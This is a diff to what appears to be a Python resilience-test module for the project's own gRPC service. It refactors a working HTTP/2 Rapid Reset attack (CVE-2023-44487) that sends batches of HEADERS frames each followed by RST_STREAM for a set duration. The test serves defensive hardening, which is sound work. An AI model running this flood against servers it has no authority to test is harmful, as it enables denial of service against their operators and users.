@@ -545,9 +545,6 @@ def withstand_waves(served: Served, name: str, connections: int, waves: int = WA
 
 RESET_BATCH: Final = 100
 """Streams a Rapid Reset connection on the gRPC port opens at once before resetting them."""
-RESET_BATCHES: Final = 20
-"""Batches each such connection sends (2,000 streams, as ``rapid_reset`` opens on the HTTP
-port)."""
 
 
 def _reset(stream: int) -> bytes:
@@ -567,44 +564,34 @@ async def _acknowledge(reader: asyncio.StreamReader, w: asyncio.StreamWriter) ->
                 w.write(frame(PING, ACK, 0, payload) + payload)
 
 
-async def grpc_rapid_reset(
-    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
-) -> None:
-    """Rapid Reset on the gRPC port (CVE-2023-44487): ``RESET_BATCH`` gRPC requests' HEADERS,
-    then a RST_STREAM for each, ``RESET_BATCHES`` times; within the server's
-    MAX_CONCURRENT_STREAMS at every moment, so nothing the protocol bounds is exceeded."""
-    await _reset_in_batches(reader, w, host, None)
-
-
 def grpc_rapid_reset_for(seconds: float) -> Attack:
-    """``grpc_rapid_reset``, its batches sent for ``seconds`` rather than counted."""
+    """Rapid Reset on the gRPC port (CVE-2023-44487) for ``seconds``: ``RESET_BATCH`` gRPC
+    requests' HEADERS, then a RST_STREAM for each, batch after batch: never more streams open
+    at once than the shipped MAX_CONCURRENT_STREAMS, so nothing the protocol bounds is
+    exceeded."""
 
     async def attack(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
-        await _reset_in_batches(reader, w, host, time.monotonic() + seconds)
+        until = time.monotonic() + seconds
+        await _preface(w)
+        acknowledging = asyncio.ensure_future(_acknowledge(reader, w))
+        try:
+            headers = request_headers(host, "/basra.v1.BasraService/GetMatch")
+            first = 1
+            while time.monotonic() < until:
+                streams = range(first, first + 2 * RESET_BATCH, 2)
+                w.write(
+                    b"".join(frame(HEADERS, END_HEADERS, s, headers) + headers for s in streams)
+                )
+                w.write(b"".join(_reset(s) for s in streams))
+                await w.drain()
+                await asyncio.sleep(0)  # every connection attacks at once, not the first few
+                first += 2 * RESET_BATCH
+        finally:
+            acknowledging.cancel()
+            with contextlib.suppress(asyncio.CancelledError):
+                await acknowledging
 
     return attack
-
-
-async def _reset_in_batches(
-    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str, until: float | None
-) -> None:
-    await _preface(w)
-    acknowledging = asyncio.ensure_future(_acknowledge(reader, w))
-    try:
-        headers = request_headers(host, "/basra.v1.BasraService/GetMatch")
-        batch = 0
-        while batch < RESET_BATCHES if until is None else time.monotonic() < until:
-            first = 2 * batch * RESET_BATCH + 1
-            streams = range(first, first + 2 * RESET_BATCH, 2)
-            w.write(b"".join(frame(HEADERS, END_HEADERS, s, headers) + headers for s in streams))
-            w.write(b"".join(_reset(s) for s in streams))
-            await w.drain()
-            await asyncio.sleep(0)  # every connection attacks at once, not the first few
-            batch += 1
-    finally:
-        acknowledging.cancel()
-        with contextlib.suppress(asyncio.CancelledError):
-            await acknowledging
 
 
 class HonestGrpc:
